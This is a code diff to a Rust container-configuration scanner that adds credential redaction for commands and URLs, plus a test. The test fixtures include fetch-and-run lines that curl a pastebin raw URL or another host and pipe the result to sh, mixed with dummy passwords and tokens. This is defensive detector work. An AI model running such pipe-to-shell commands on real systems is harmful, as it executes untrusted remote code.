@@ -17,6 +17,8 @@ pub struct ConfigDetector {
     raw_ip_url: Regex,
     build_arg: Regex,
     paste_sites: Vec<&'static str>,
+    /// Secrets inside commands: group 1 is kept, group 2 is redacted.
+    command_secrets: Vec<Regex>,
 }
 
 impl Default for ConfigDetector {
@@ -69,6 +71,16 @@ impl ConfigDetector {
             ),
             build_arg: re(r"^\|\d+\s+(.*?)\s+/bin/(ba)?sh\s+-c"),
             paste_sites: canary_rules::paste_sites().collect(),
+            command_secrets: vec![
+                re(
+                    r"(?i)(\b[A-Z0-9_]*(?:PASSW(?:OR)?D|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH)[A-Z0-9_]*=['\x22]?)([^\s'\x22]+)",
+                ),
+                re(r"(?i)((?:^|\s)(?:-u|--user)(?:\s+|=)['\x22]?[^\s:'\x22]*:)([^\s'\x22]+)"),
+                re(r"(?i)(authorization:\s*(?:bearer\s+|basic\s+|token\s+)?)([^\s'\x22]+)"),
+                re(
+                    r"(?i)((?:--password|--passwd|--token|--api-key|--secret)(?:\s+|=)['\x22]?)([^\s'\x22]+)",
+                ),
+            ],
         }
     }
 
@@ -109,10 +121,10 @@ impl ConfigDetector {
                     continue;
                 }
                 // For URLs, show where they point and hide only the password.
-                let (shown, raw) = match re.captures(value).and_then(|c| c.get(1)) {
-                    Some(pw) if *what == "URL with embedded password" => (
-                        matched.replacen(pw.as_str(), &redact(pw.as_str()), 1),
-                        pw.as_str(),
+                let (shown, raw) = match re.captures(value) {
+                    Some(c) if *what == URL_WITH_PASSWORD => (
+                        redact_group(&c, 1),
+                        c.get(1).map_or(matched, |g| g.as_str()),
                     ),
                     _ => (redact(matched), matched),
                 };
@@ -294,12 +306,41 @@ impl ConfigDetector {
     /// Commands are shown as evidence, but any credential inside them is redacted.
     fn redact_command(&self, cmd: &str) -> String {
         let mut s = cmd.to_string();
-        for (_, re) in &self.value_shapes {
+        for (what, re) in &self.value_shapes {
             s = re
-                .replace_all(&s, |c: &regex::Captures<'_>| redact(&c[0]))
+                .replace_all(&s, |c: &regex::Captures<'_>| {
+                    if *what == URL_WITH_PASSWORD {
+                        redact_group(c, 1)
+                    } else {
+                        redact(&c[0])
+                    }
+                })
+                .into_owned();
+        }
+        for re in &self.command_secrets {
+            s = re
+                .replace_all(&s, |c: &regex::Captures<'_>| {
+                    format!("{}{}", &c[1], redact(&c[2]))
+                })
                 .into_owned();
         }
         s
+    }
+}
+
+const URL_WITH_PASSWORD: &str = "URL with embedded password";
+
+/// The whole match with capture `group` replaced by its redaction (by position, not by
+/// text: `postgres://postgres:postgres@db` hides the password, not the scheme).
+fn redact_group(c: &regex::Captures<'_>, group: usize) -> String {
+    let whole = c.get(0).expect("group 0 always matches");
+    match c.get(group) {
+        Some(g) => {
+            let (a, b) = (g.start() - whole.start(), g.end() - whole.start());
+            let m = whole.as_str();
+            format!("{}{}{}", &m[..a], redact(g.as_str()), &m[b..])
+        }
+        None => redact(whole.as_str()),
     }
 }
 
@@ -473,6 +514,42 @@ mod tests {
                 "{}",
                 f.evidence
             );
+        }
+    }
+
+    #[test]
+    fn evidence_never_shows_secrets_in_urls_commands_or_build_args() {
+        let f = scan(with_env(&["AMQP=amqp://guest:guest@rabbit:5672/"]));
+        assert_eq!(
+            f[0].evidence, "AMQP=amqp://guest:********@rabbit:5672",
+            "{:?}",
+            f[0]
+        );
+        let mut cfg = with_env(&[]);
+        cfg.history = vec![History {
+            created_by: Some(
+                "|1 DB_PASSWORD=S3cr3tPassw0rd /bin/sh -c curl -u admin:hunter2pw -H 'Authorization: Bearer eyJabcdefghij' https://pastebin.com/raw/x --token tok123456 | sh".into(),
+            ),
+            ..Default::default()
+        }];
+        cfg.config.cmd = Some(vec![
+            "sh".into(),
+            "-c".into(),
+            "curl --password=Pw12345678 http://x/y | sh".into(),
+        ]);
+        let f = scan(cfg);
+        assert!(f.len() >= 4, "{f:#?}");
+        for x in &f {
+            for secret in [
+                "S3cr3tPassw0rd",
+                "hunter2pw",
+                "eyJabcdefghij",
+                "tok123456",
+                "Pw12345678",
+            ] {
+                assert!(!x.evidence.contains(secret), "{secret} in {}", x.evidence);
+                assert!(!x.title.contains(secret), "{secret} in {}", x.title);
+            }
         }
     }
 
